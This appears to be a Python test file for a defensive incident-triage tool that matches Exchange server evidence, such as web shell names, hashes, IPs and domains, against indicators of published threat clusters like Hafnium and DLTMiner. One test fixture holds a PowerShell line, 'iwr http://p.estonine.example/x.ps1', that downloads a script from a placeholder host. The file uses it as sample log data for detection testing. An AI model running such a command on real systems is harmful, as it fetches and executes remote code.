"""Resemblance to published clusters: what is counted, what never counts, and how sure it is."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import date, datetime, timedelta

import pytest
from cluster_making import PLACE, START, Who, host, way

from extriage.analysis.clusters import clusters
from extriage.analysis.traittexts import digest_of
from extriage.knowledge.indicators import shipped_indicators
from extriage.model.cluster import Resemblance
from extriage.model.detection import Certainty
from extriage.model.indicator import Indicator, Sighting
from extriage.model.state import Proof

HASH = "ab" * 32
MARCH = date(2021, 3, 2)


def indicator(
    type: str,
    value: str,
    cluster: str = "Hafnium",
    *,
    confidence: str = "high",
    first: date | None = None,
) -> Indicator:
    return Indicator(type, value, "a list", confidence, cluster, first_seen=first)


def alike(who: Who, known: Sequence[Indicator]) -> dict[str, Resemblance]:
    (found,) = clusters([host("EX01", who)], known)
    return {one.cluster: one for one in found.resembles}


def test_indicators_and_those_unique_to_a_cluster_are_counted() -> None:
    known = [
        indicator("sha256", HASH),
        indicator("ipv4", "203.0.113.24", "Hafnium/Silk Typhoon (Volexity set)", first=MARCH),
        indicator("ipv4", "203.0.113.24", "Calypso", first=MARCH),
        indicator("path", rf"{PLACE}/rarename.aspx".replace("/", "\\"), "unattributed ProxyShell"),
        indicator("path", r"\owa\auth\rarename.aspx", "Hafnium", confidence="medium"),
        indicator("sha256", "cd" * 32, "Tick"),
    ]
    who = Who((("address", "203.0.113.24"),), page="rarename.aspx", content=HASH)
    found = alike(who, known)
    assert set(found) == {"Hafnium", "Calypso"}
    hafnium, calypso = found["Hafnium"], found["Calypso"]
    assert (hafnium.indicators, hafnium.unique, hafnium.confidence) == (3, 2, Certainty.LIKELY)
    assert hafnium.text == (
        "resembles published indicators of Hafnium (3 indicators, 2 of them unique to Hafnium)"
    )
    assert hafnium.matched[0] == ("sha256", HASH, "a list")
    assert (calypso.indicators, calypso.unique, calypso.confidence) == (1, 0, Certainty.POSSIBLE)
    assert "(1 indicator, 0 of them unique to Calypso)" in calypso.text


def test_a_value_of_nobody_in_another_list_is_unique_to_none() -> None:
    known = [indicator("sha256", HASH), indicator("sha256", HASH, "unattributed (MSTIC feed)")]
    (found,) = alike(Who(page="rarename.aspx", content=HASH), known).values()
    assert (found.cluster, found.indicators, found.unique) == ("Hafnium", 1, 0)
    assert found.confidence is Certainty.POSSIBLE


@pytest.mark.parametrize(
    ("who", "known"),
    [
        (Who(page="shell.aspx"), indicator("file-name", "shell.aspx")),
        (Who(page="discover.aspx"), indicator("path", r"\owa\auth\discover.aspx", "Calypso")),
        (Who((("agent", "curl/7.1.2"),)), indicator("user-agent", "curl/7.1.2")),
        (Who((("address", "10.1.2.3"),)), indicator("ipv4", "10.1.2.3")),
        (Who((("address", "203.0.113.24"),)), indicator("network", "203.0.113.0/24")),
        (Who((("address", "209.14.0.234"),)), indicator("ipv4", "209.14.0.234", "LockBit")),
        (Who((("address", "104.21.89.10"),)), indicator("ipv4", "104.21.89.10", "Black Kingdom")),
        (Who(page="rarename.aspx", password="orange"), indicator("shell-parameter", "orange")),
        (Who((("account", "jdoe"),)), indicator("account", "jdoe", "mass scanners / Hafnium")),
        (Who(page="rarename.aspx"), indicator("file-name", "rarename.aspx", "")),
    ],
    ids=lambda one: f"{one.type}-{one.value}" if isinstance(one, Indicator) else "",
)  # fmt: skip
def test_generic_names_ranges_and_wrong_claims_never_attribute(who: Who, known: Indicator) -> None:
    assert alike(who, [known]) == {}


@pytest.mark.parametrize(
    ("start", "first", "counts"),
    [
        (START, MARCH, True),
        (START, date(2021, 8, 30), True),
        (START, date(2021, 9, 10), False),
        (START + timedelta(days=400), MARCH, False),
        (START + timedelta(days=400), None, True),
    ],
)
def test_an_address_counts_only_near_its_days(
    start: datetime, first: date | None, counts: bool
) -> None:
    known = [indicator("ipv4", "203.0.113.24", first=first, confidence="medium")]
    found = alike(Who((("address", "203.0.113.24"),), start=start), known)
    assert bool(found) is counts


def test_a_hash_and_a_name_do_not_age() -> None:
    who = Who(page="rarename.aspx", content=HASH, start=START + timedelta(days=900))
    known = [
        indicator("sha256", HASH, first=MARCH),
        indicator("file-name", "rarename.aspx", first=MARCH),
    ]
    assert alike(who, known)["Hafnium"].indicators == 2


@pytest.mark.parametrize(
    ("values", "confidence", "sure"),
    [
        (("rarename.aspx",), "high", Certainty.POSSIBLE),
        ((HASH,), "high", Certainty.LIKELY),
        ((HASH,), "low", Certainty.POSSIBLE),
        ((HASH, "password"), "high", Certainty.CONFIRMED),
        ((HASH, "password"), "medium", Certainty.LIKELY),
        ((HASH, "password"), "", Certainty.POSSIBLE),
    ],
)
def test_how_sure_it_is_follows_from_what_is_unique(
    values: tuple[str, ...], confidence: str, sure: Certainty
) -> None:
    types = {HASH: "sha256", "password": "shell-password-sha256"}
    known = [
        indicator(
            types.get(value, "file-name"),
            digest_of("k9Zrtwq") if value == "password" else value,
            confidence=confidence,
        )
        for value in values
    ]
    who = Who(page="rarename.aspx", password="k9Zrtwq", content=HASH)
    assert alike(who, known)["Hafnium"].confidence is sure


def test_domains_count_with_all_below_them_and_places_on_any_drive() -> None:
    said = (
        "CommandLine=iwr http://p.estonine.example/x.ps1",
        r"Image=D:\ProgramData\kit\helper9.exe CommandLine=helper9",
    )
    known = [
        indicator("domain", "estonine.example", "DLTMiner"),
        indicator("path", r"C:\ProgramData\kit\helper9.exe", "DLTMiner", confidence="medium"),
        indicator("path", r"C:\kit\helper9.exe", "Tick"),
        indicator("domain", "tonine.example", "Tick"),
    ]
    found = alike(Who(summaries=said), known)
    assert set(found) == {"DLTMiner"}
    assert (found["DLTMiner"].indicators, found["DLTMiner"].unique) == (2, 2)


def test_a_sighting_counts_for_whose_line_it_is_in() -> None:
    server = host("EX01", Who(summaries=("a marker stands here",)))
    marker = Indicator(
        "text", "SM_SESSION=CMD", "a user's list", "high", "SessionManager (Gelsemium)"
    )
    proof = Proof("x.evtx", 0, "")
    seen = Sighting(marker, "EX01", "log", 1, START, START, "", (proof,))
    (found,) = clusters([replace(server, sightings=(seen,))], ())
    assert [(one.cluster, one.unique) for one in found.resembles] == [("Gelsemium", 1)]
    elsewhere = replace(seen, proofs=(replace(proof, path="other.log"),))
    (found,) = clusters([replace(server, sightings=(elsewhere,))], ())
    assert found.resembles == ()


def test_the_shipped_list_is_used_when_none_is_given_and_says_what_it_is_not() -> None:
    hashes = [
        one for one in shipped_indicators() if one.type == "sha256" and "Hafnium" in one.cluster
    ]
    (found,) = clusters([host("EX01", Who(page="rarename.aspx", content=hashes[0].value))])
    assert [one.cluster for one in found.resembles] == ["Hafnium"]
    assert "resembles published indicators of Hafnium (1 indicator" in found.text
    assert "says nothing of who it was" in found.text


def test_a_service_that_was_made_is_no_name_of_a_cluster() -> None:
    who = Who(ways=(way("p-1", "service", "msupdate"),))
    assert alike(who, shipped_indicators()) == {}
